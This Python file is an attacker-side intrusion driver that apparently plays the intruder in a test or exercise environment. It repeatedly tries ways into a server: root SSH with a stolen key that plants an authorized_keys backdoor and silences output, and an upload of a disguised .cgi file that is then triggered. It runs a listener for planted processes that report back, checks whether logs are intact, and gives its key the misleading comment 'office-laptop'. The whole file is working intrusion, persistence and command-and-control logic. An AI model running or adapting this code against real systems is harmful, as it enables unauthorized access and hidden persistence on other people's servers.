"""The one who has no business on the server: tries every way, each second, and keeps a record of what came of it.

GET /key.pub    the public half of the key that was stolen
GET /job        the job that somebody carries to the server
GET /settled    200 once a process of ours is there and all ways were tried since
"""

import base64
import json
import os
import secrets
import signal
import socketserver
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import parcel
from tries import all_ways, ask, session, ssh, upload

HOME = Path("/var/lib/town")
KEY, RECORD = HOME / "key", HOME / "record.json"
PAUSE, AGAIN = 1.2, 4
MOST, PATIENCE = 40, 10
MET = 2000
"""So many connections are known by their ports, however many processes have come and gone."""
NOISE = 400
"""So much is known of what the logs have of us; where it is more, every second one is forgotten."""


class Record:
    """What is known of every way, and of every process that ever said hello."""

    def __init__(self):
        self.lock = threading.Lock()
        self.told = json.loads(RECORD.read_text()) if RECORD.exists() else self.fresh()
        for one in self.told["processes"]:
            one["ended"] = one["ended"] or one["seen"]
        self.save()

    def fresh(self):
        """Nothing has happened yet."""
        token, name = secrets.token_hex(8), f"concert-{secrets.token_hex(3)}.cgi"
        quiet = {"noise": {"access": [], "sshd": []}}
        known = {"came": None, "processes": [], "ways": {}, "rounds": 0, "sent": False, "settled": None, "met": []}
        return {"token": token, "name": name, **known, **quiet}

    def save(self):
        """Write it down, whole."""
        half = RECORD.with_suffix(".part")
        half.write_text(json.dumps(self.told))
        half.replace(RECORD)

    def tried(self, found):
        """Note what came of a round."""
        with self.lock:
            self.told["rounds"] += 1
            for way, is_open in found.items():
                known = self.told["ways"].setdefault(way, {"open": False, "since": 0, "ever": False})
                if known["open"] != is_open:
                    known["open"], known["since"] = is_open, round(time.time(), 3)
                known["ever"] = known["ever"] or is_open
            if not self.told["settled"] and self.is_settled():
                self.told["settled"] = round(time.time(), 3)
            self.save()

    def refused(self, log, mark):
        """Note by what a log knows of a try that led nowhere, and when that was."""
        with self.lock:
            known = self.told["noise"][log]
            known.append([round(time.time(), 3), mark])
            if len(known) > NOISE:
                del known[1::2]
            self.save()

    def came(self, way, mark):
        """Note how we came in, and by what a log knows of it."""
        with self.lock:
            self.told["came"] = {"way": way, "mark": mark, "at": round(time.time(), 3)}
            self.save()

    def hello(self, line, peer):
        """Note a process that is there; gives its place in the record."""
        _, number, pid, sha, there, pids, planted = line.rstrip("\n").split(" ")
        with self.lock:
            one = next((one for one in self.told["processes"] if one["id"] == number), None)
            if one is None:
                files = [row.split(" ", 2) for row in base64.b64decode(planted).decode().splitlines()]
                one = {
                    "id": number, "pid": int(pid), "sha256": sha, "began": round(time.time(), 3), "peers": [],
                    "pids": [[int(row.split(":")[0]), row.split(":")[1]] for row in pids.split(",") if row],
                    "there": [int(other) for other in there.split(",")],
                    "files": [{"time": int(at), "sha256": each, "path": path} for at, each, path in files],
                }  # fmt: skip
                self.told["processes"] = [*self.told["processes"][:1], *self.told["processes"][1:][-MOST:], one]
            one["ended"], one["seen"] = None, round(time.time(), 3)
            one["peers"] = [*one["peers"], peer[1]][-MOST:]
            self.told["met"] = [*self.told["met"], peer[1]][-MET:]
            one["round"] = self.told["rounds"]
            self.save()
        return one

    def seen(self, one, ended=False):
        """Note that a process is still connected, or no longer."""
        with self.lock:
            one["seen"] = round(time.time(), 3)
            if ended:
                one["ended"] = one["seen"]
            self.save()

    def is_ready(self):
        """Whether the picture lies there, or can't be sent."""
        return self.told["sent"] or self.told["rounds"] > PATIENCE

    def is_settled(self):
        """Whether a process is there, and everything was tried since."""
        return any(self.told["rounds"] > one["round"] + 1 for one in self.told["processes"] if not one["ended"])


class Listener(socketserver.BaseRequestHandler):
    """Where processes of ours say that they are there."""

    def handle(self):
        """Hear of one for as long as it is connected; one that stands still is connected, too."""
        try:
            one = record.hello(self.line(), self.client_address)
        except (ValueError, OSError, IndexError):
            return
        self.request.settimeout(0.5)
        try:
            while True:
                self.request.sendall(b"stay\n")
                record.seen(one)
                if not self.has_more():
                    break
        except OSError:
            pass
        record.seen(one, ended=True)

    def has_more(self):
        """Wait for half a second; False when the other end has closed."""
        end = time.monotonic() + 0.5
        while (left := end - time.monotonic()) > 0:
            self.request.settimeout(left)
            try:
                if not self.request.recv(4096):
                    return False
            except TimeoutError:
                return True
        return True

    def line(self):
        """The first line that it says."""
        self.request.settimeout(10)
        told = b""
        while not told.endswith(b"\n") and len(told) < 16000 and (part := self.request.recv(4096)):
            told += part
        return told.decode()


class Answers(BaseHTTPRequestHandler):
    """What the break asks."""

    def do_GET(self):
        """Give a file, or say how things stand."""
        if self.path == "/settled":
            return self.say(200 if record.is_settled() else 503, b"")
        if self.path == "/key.pub":
            return self.say(200, KEY.with_suffix(".pub").read_bytes())
        if self.path == "/job":
            while not record.is_ready():
                time.sleep(0.2)
            if not record.told["processes"]:
                record.came("job", os.environ["KIKORI_JOB"])
            return self.say(200, parcel.job(record.told["token"], public()).encode())
        return self.say(404, b"")

    def say(self, status, body):
        """Answer."""
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        """Nothing to tell."""


class Server(socketserver.ThreadingTCPServer):
    """A listener that can be started again at once."""

    allow_reuse_address = daemon_threads = True


def public():
    """The public half of the key."""
    return KEY.with_suffix(".pub").read_text().strip()


def come_in(found):
    """Once a way is open for the first time: plant what is to be planted."""
    token = record.told["token"]
    if found["root"]:
        before = "echo $SSH_CONNECTION\nexec > /dev/null 2>&1\nfiles+=(/root/.ssh/authorized_keys)\n" + parcel.SENT
        told = parcel.comes("ssh", token, public(), before)
        said = ssh(str(KEY), "root", "bash -s", told.encode()).split()
        if len(said) == 4:
            record.came("root", said[1].decode())
    elif found["upload"]:
        record.came("upload", record.told["name"])
        ask("GET", f"/pictures/{record.told['name']}?come")


def send(token, name):
    """Send the picture once, and another one again and again when a process is there; gives whether it runs."""
    if record.told["processes"]:
        return upload(token, f"again-{name}", parcel.probe(token))
    runs_now = not record.told["sent"] and upload(token, name, parcel.upload(token, public()))
    record.told["sent"] = ask("GET", f"/pictures/{name}")[0] == 200
    return runs_now


def make_noise():
    """Ask for a page that is not there, and log in as nobody: each once, so that a log shows whether it is whole."""
    mark = secrets.token_hex(4)
    if ask("GET", f"/old/{mark}.php")[0] == 404:
        record.refused("access", f"/old/{mark}.php")
    if b"Permission denied" in session(str(KEY), f"guest-{mark}", "true")[1]:
        record.refused("sshd", f"guest-{mark}")


def main():
    """Try for ever, until the engine says stop."""
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))  # the first process has no default for it
    for port, kind, server in ((parcel.PORT, Listener, Server), (8000, Answers, ThreadingHTTPServer)):
        threading.Thread(target=server(("", port), kind).serve_forever, daemon=True).start()
    token, name = record.told["token"], record.told["name"]
    while True:
        if not record.told["settled"] or record.told["rounds"] % AGAIN == 0:
            make_noise()
        found = all_ways(str(KEY), token, os.environ["KIKORI_PAGE"], name)
        if not found["upload"] and (not record.told["sent"] or record.told["rounds"] % AGAIN == 0):
            found["upload"] = send(token, name)
        record.tried(found)
        if not record.told["processes"] and record.is_ready():
            come_in(found)
        time.sleep(PAUSE)


if __name__ == "__main__":
    if not KEY.exists():
        made = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "office-laptop", "-f", str(KEY)]
        subprocess.run(made, check=True)
    record = Record()
    sys.exit(main())
